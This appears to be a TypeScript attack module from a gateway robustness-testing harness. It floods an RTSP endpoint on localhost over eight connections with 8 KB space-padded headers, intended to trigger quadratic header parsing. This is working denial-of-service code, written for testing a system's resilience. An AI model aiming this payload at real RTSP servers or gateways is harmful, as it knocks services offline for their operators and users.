import { once } from 'node:events';
import { connect } from 'node:net';
import type { Attack, Tools } from '../attack.ts';
import { strangerAddress } from '../attack.ts';

const connections = 8;

/** Headers of 8 KB with blanks inside: what a reader that goes back over them makes quadratic. */
export const rtspHeaders: Attack = {
  name: 'RTSP headers with blanks',
  by: 'stranger',
  unit: 'headers',
  async run(tools) {
    await Promise.all(Array.from({ length: connections }, (_, n) => sendFor(tools, n)));
  },
};

async function sendFor({ target, random, signal, count }: Tools, n: number): Promise<void> {
  for (let tries = 0; !signal.aborted; tries += 1) {
    const localAddress = strangerAddress(n * 64 + (tries % 64), random.below(200));
    const socket = connect({ host: '127.0.0.1', port: target.gatewayPort, localAddress });
    socket.on('error', () => {});
    socket.resume();
    while (!signal.aborted && !socket.closed) {
      const blanks = `x${' '.repeat(8_000)}y`;
      const header = random.of([
        `X: ${blanks}`,
        `${blanks}: x`,
        `Authorization: Digest a=${blanks}`,
      ]);
      count();
      if (socket.write(`OPTIONS * RTSP/1.0\r\nCSeq: 1\r\n${header}\r\n\r\n`)) continue;
      await Promise.race([once(socket, 'drain'), once(socket, 'close')]).catch(() => {});
    }
    socket.destroy();
  }
}
